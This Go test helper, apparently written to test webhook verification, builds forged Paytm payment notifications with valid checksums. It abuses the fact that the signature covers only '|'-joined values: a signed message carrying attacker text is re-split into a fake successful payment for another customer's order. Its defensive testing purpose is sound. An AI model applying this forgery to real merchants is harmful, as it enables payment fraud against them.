package paytmtest

import (
	"fmt"
	"slices"
	"strings"

	"hissa/paytm"
)

// Forge shows why a valid checksum is no proof. Paytm signs the values of a form, in byte order
// of their names and joined by "|", but not the names, nor where a value ends. So whoever can
// put text of his own into one value of one signed message can cut that message anew.
//
// bait is such a message: genuine, about a failed payment of ₹1.00 for an order of the forger's
// own, whose MERC_UNQ_REF is his text and holds "|". forged is the same signed text cut at every
// "|": a success of amount paise for victimOrder, with a TXNID of the forger's choice and the
// CHECKSUMHASH of the bait. Options say what else the forged payment claims, such as Reference
// for a partner's code.
//
// Every name in forged is one of Paytm's payment webhook and no value holds "|". What must stay
// is the bait's own STATUS, under another name, where a careful reader may notice TXN_FAILURE.
// ForgeFromMandate leaves not even that.
func (p *Paytm) Forge(victimOrder, newTxnID string, amount int64, opts ...Option) (
	bait, forged Message) {

	claim := p.claimed(victimOrder, newTxnID, amount, opts)
	// The forger's text starts where the genuine MERC_UNQ_REF stands, between GATEWAYNAME and
	// MID. Each genuine value from MID on needs a name that sorts after TXNID.
	claims := []paytm.Field{
		{Name: "MERC_UNQ_REF", Value: claim.Reference},
		{Name: "MID", Value: p.mid},
		{Name: "ORDERID", Value: claim.OrderID},
		{Name: "PAYMENTMODE", Value: claim.Mode},
		{Name: "RESPCODE", Value: outcomes[paytm.Success].code},
		{Name: "RESPMSG", Value: outcomes[paytm.Success].text},
		{Name: "STATUS", Value: statusWords[paytm.Success]},
		{Name: "TXNAMOUNT", Value: paytm.FormatAmount(claim.Amount)},
		{Name: "TXNDATE", Value: day(claim.PaidAt)},
		{Name: "TXNDATETIME", Value: stamp(claim.PaidAt)},
		{Name: "TXNID", Value: claim.TxnID},
	}
	pay := p.Pay("OWN_"+victimOrder, 100, Failed(), At(claim.PaidAt), Reference(texts(claims)))
	bait = p.PaymentForm(pay)
	bait.About = "bait: " + bait.About
	names := []string{"BANKTXNID", "CURRENCY", "CUSTID", "GATEWAYNAME"}
	for _, c := range claims {
		names = append(names, c.Name)
	}
	names = append(names, "cardIndexNo", "clientId", "comments", "maskedCardNo", "pccCode",
		"udf_1", "udf_2", "udf_3", "uniqueReferenceLabel", "uniqueReferenceValue")
	return bait, recut(bait, names, claim)
}

// ForgeFromMandate is Forge with a subscription status message as the bait, whose CUSTEMAILID is
// the forger's: an address may lawfully hold "|" before its "@". A mandate's STATUS is ACTIVE, so
// nothing in the forged payment looks like the status of another.
func (p *Paytm) ForgeFromMandate(victimOrder, newTxnID string, amount int64) (
	bait, forged Message) {

	claim := p.claimed(victimOrder, newTxnID, amount, nil)
	// AMOUNTTYPE, BANKNAME and CREATEDDATE come before, thirteen more values after.
	claims := []paytm.Field{
		{Name: "CUSTID", Value: "CUST_001"},
		{Name: "MID", Value: p.mid},
		{Name: "ORDERID", Value: claim.OrderID},
		{Name: "STATUS", Value: statusWords[paytm.Success]},
		{Name: "TXNAMOUNT", Value: paytm.FormatAmount(claim.Amount)},
		{Name: "TXNID", Value: claim.TxnID},
		{Name: "VPA", Value: "a@example.com"},
	}
	genuine, err := paytm.Parse(p.SubscriptionStatus("102771", "ACTIVE").Body)
	if err != nil {
		panic(fmt.Sprintf("paytmtest: %v", err))
	}
	values := map[string]string{}
	for _, field := range genuine.Fields {
		values[field.Name] = field.Value
	}
	values["CUSTEMAILID"] = texts(claims)
	bait = p.SignForm(values)
	bait.About = "bait: subscription ACTIVE"
	names := []string{"ACCNUMVERSUCCESS", "AUTHCODE", "BANKNAME"}
	for _, c := range claims {
		names = append(names, c.Name)
	}
	names = append(names, "cardHash", "cardIndexNo", "cardScheme", "clientId", "comments",
		"emiSubventionInfo", "feeRateFactors", "maskedCardNo", "pccCode", "prepaidCard",
		"riskInfo", "udf_1", "udf_2", "udf_3")
	return bait, recut(bait, names, claim)
}

// claimed is the payment a forger pretends.
func (p *Paytm) claimed(order, txnID string, amount int64, opts []Option) *Payment {
	claim := &Payment{OrderID: order, TxnID: txnID, Amount: amount, Mode: "UPI",
		Status: paytm.Success, PaidAt: p.now()}
	for _, opt := range opts {
		opt(claim)
	}
	return claim
}

// texts joins values the way Paytm joins them before it signs.
func texts(fields []paytm.Field) string {
	var values []string
	for _, field := range fields {
		values = append(values, field.Value)
	}
	return strings.Join(values, "|")
}

// recut gives each piece of the signed text of a form another name, in order, and keeps the
// checksum. The names must be in byte order and as many as the pieces, else it would not verify.
func recut(bait Message, names []string, claim *Payment) Message {
	envelope, err := paytm.Parse(bait.Body)
	if err != nil {
		panic(fmt.Sprintf("paytmtest: %v", err))
	}
	signed := slices.DeleteFunc(slices.Clone(envelope.Fields), func(field paytm.Field) bool {
		return field.Name == "CHECKSUMHASH"
	})
	slices.SortFunc(signed, func(a, b paytm.Field) int { return strings.Compare(a.Name, b.Name) })
	pieces := strings.Split(texts(signed), "|")
	if len(pieces) != len(names) || !slices.IsSorted(names) {
		panic(fmt.Sprintf("paytmtest: %d names for the %d pieces of %v", len(names), len(pieces),
			pieces))
	}
	var fields paytm.Fields
	for i, name := range names {
		fields = append(fields, paytm.Field{Name: name, Value: pieces[i]})
	}
	return Message{
		ContentType: formType,
		Body:        encodeForm(fields, envelope.Checksum),
		About:       "forged " + claim.about(),
		TxnID:       claim.TxnID,
		OrderID:     claim.OrderID,
	}
}
